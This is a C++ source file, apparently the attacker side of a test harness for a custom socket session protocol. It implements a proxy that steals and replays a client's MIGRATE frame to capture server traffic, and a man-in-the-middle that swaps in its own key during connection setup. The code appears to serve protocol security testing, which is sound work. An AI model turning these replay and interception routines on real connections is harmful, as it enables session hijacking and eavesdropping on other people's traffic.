// The on-path attacks: a proxy that steals a client's MIGRATE and replays it
// from elsewhere, and a proxy that terminates NEW with its own key.
#include <atomic>
#include <cstdio>
#include <fstream>
#include <mutex>
#include <thread>

#include <sys/socket.h>

#include "attacker_commands.hpp"
#include "session/identity.hpp"

namespace attacker {

namespace wire = msocket::wire;
namespace session = msocket::session;

namespace {

std::mutex print_mutex;

template <typename... Arguments>
void say(const char* format, Arguments... arguments) {
  std::lock_guard lock(print_mutex);
  std::printf(format, arguments...);
  std::printf("\n");
  std::fflush(stdout);
}

// Copies `from` to `to` until `from` ends; an end of file is passed on as
// one, anything else ends both directions.
void copy_one_way(tcp::socket& from, tcp::socket& to) {
  std::array<std::byte, 64 * 1024> buffer{};
  while (true) {
    boost::system::error_code ec;
    const auto n = from.read_some(asio::buffer(buffer), ec);
    if (!ec) asio::write(to, asio::buffer(buffer.data(), n), ec);
    if (!ec) continue;
    if (ec == asio::error::eof) {
      ::shutdown(to.native_handle(), SHUT_WR);
    } else {
      ::shutdown(from.native_handle(), SHUT_RDWR);
      ::shutdown(to.native_handle(), SHUT_RDWR);
    }
    return;
  }
}

// Forwards a client's flowpath whose first frame is `first` to the server.
void relay(tcp::socket client, const SetupBytes& first, const tcp::endpoint& server) {
  tcp::socket upstream(client.get_executor());
  boost::system::error_code ec;
  upstream.connect(server, ec);
  if (!ec) asio::write(upstream, asio::buffer(first), ec);
  if (ec) return reset(client);
  std::thread back([&] { copy_one_way(upstream, client); });
  copy_one_way(client, upstream);
  back.join();
  reset(upstream);
  reset(client);
}

// Replays the stolen SETUP from `replay_from` and keeps what the server
// sends on it, until it closes or 30 s pass.
void replay(const SetupBytes& stolen, const tcp::endpoint& server, const asio::ip::address& replay_from,
            const std::string& capture_file) {
  asio::io_context context;
  auto thief = connect_from(context, server, replay_from);
  asio::write(thief, asio::buffer(stolen));
  std::ofstream capture(capture_file, std::ios::binary);
  std::vector<std::byte> captured;
  const auto start = std::chrono::steady_clock::now();
  while (std::chrono::steady_clock::now() - start < 30s) {
    if (!wait_readable(thief, 200ms)) continue;
    std::array<std::byte, 64 * 1024> buffer{};
    boost::system::error_code ec;
    const auto n = thief.read_some(asio::buffer(buffer), ec);
    if (ec) break;
    captured.insert(captured.end(), buffer.begin(), buffer.begin() + n);
  }
  capture.write(reinterpret_cast<const char*>(captured.data()), static_cast<std::streamsize>(captured.size()));
  const auto answer = captured.size() >= kSetupFrameSize
                          ? decode_setup(std::span(captured).first(kSetupFrameSize), true)
                          : std::nullopt;
  say("steal-proxy: replay answered %s", answer ? status_name(answer->code) : "nothing");
  say("steal-proxy: captured %zu bytes (%zu after the answer), %s", captured.size(),
      captured.size() > kSetupFrameSize ? captured.size() - kSetupFrameSize : 0,
      std::chrono::steady_clock::now() - start >= 30s ? "for 30 s" : "until the server closed");
  reset(thief);
}

}  // namespace

int steal_proxy(const tcp::endpoint& listen, const tcp::endpoint& server, const std::string& capture_file,
                const asio::ip::address& replay_from) {
  asio::io_context context;
  tcp::acceptor acceptor(context, listen);
  say("steal-proxy: listening on %s:%u", listen.address().to_string().c_str(), listen.port());
  std::atomic<bool> stolen = false;
  std::vector<std::shared_ptr<tcp::socket>> held;  // clients whose MIGRATE is never answered
  std::mutex held_mutex;
  while (true) {
    auto client = std::make_shared<tcp::socket>(acceptor.accept());
    std::thread([&, client] {
     try {
      SetupBytes first{};
      if (!read_exact(*client, first, 30000ms)) return reset(*client);
      const auto setup = decode_setup(first, false);
      const bool migrate = setup && setup->code == static_cast<std::uint8_t>(wire::SetupKind::migrate);
      if (migrate && !stolen.exchange(true)) {
        say("steal-proxy: holding MIGRATE path=%u counter=%llu; replaying it", setup->path_id,
            static_cast<unsigned long long>(setup->counter));
        {
          std::lock_guard lock(held_mutex);
          held.push_back(client);
        }
        return replay(first, server, replay_from, capture_file);
      }
      if (migrate) say("steal-proxy: forwarding MIGRATE counter=%llu", static_cast<unsigned long long>(setup->counter));
      relay(std::move(*client), first, server);
     } catch (const std::exception& e) {
      say("steal-proxy: %s", e.what());
     }
    }).detach();
  }
}

namespace {

// What the client does after the forged answer: closes, resets, or sends.
const char* client_reaction(tcp::socket& client) {
  if (!wait_readable(client, 10000ms)) return "nothing for 10 s";
  std::array<std::byte, 4096> buffer{};
  boost::system::error_code ec;
  const auto n = client.read_some(asio::buffer(buffer), ec);
  if (ec == asio::error::eof) return "closed the connection";
  if (ec) return "reset the connection";
  return n > 0 ? "sent bytes (it accepted the forged answer)" : "nothing";
}

void terminate_new(tcp::socket client, const tcp::endpoint& server) {
  SetupBytes first{};
  const auto request = read_exact(client, first, 10000ms) ? decode_setup(first, false) : std::nullopt;
  if (!request || request->code != static_cast<std::uint8_t>(wire::SetupKind::new_connection)) {
    say("mitm: the first frame is not a NEW; closing");
    return reset(client);
  }
  // Our own NEW to the real server, with our key, for its signed answer.
  const auto keys = session::generate_keypair();
  auto own = *request;
  own.public_key = keys.public_key;
  asio::io_context context;
  auto upstream = connect_from(context, server, std::nullopt);
  asio::write(upstream, asio::buffer(encode_setup(own, false)));
  SetupBytes answer_bytes{};
  const auto answer = read_exact(upstream, answer_bytes, 10000ms) ? decode_setup(answer_bytes, true) : std::nullopt;
  reset(upstream);
  if (!answer) {
    say("mitm: the server did not answer our NEW");
    return reset(client);
  }
  say("mitm: server answered %s, identity %s", status_name(answer->code),
      session::identity_to_text(answer->identity).c_str());
  // The client gets the server's identity and signature with our key.
  auto forged = *answer;
  forged.public_key = keys.public_key;
  asio::write(client, asio::buffer(encode_setup(forged, true)));
  say("mitm: answered the client's NEW with our own key and the server's signature");
  say("mitm: the client %s", client_reaction(client));
  reset(client);
}

}  // namespace

int mitm(const tcp::endpoint& listen, const tcp::endpoint& server) {
  asio::io_context context;
  tcp::acceptor acceptor(context, listen);
  say("mitm: listening on %s:%u", listen.address().to_string().c_str(), listen.port());
  while (true) {
    auto client = acceptor.accept();
    std::thread([client = std::move(client), server]() mutable {
      try {
        terminate_new(std::move(client), server);
      } catch (const std::exception& e) {
        say("mitm: %s", e.what());
      }
    }).detach();
  }
}

}  // namespace attacker
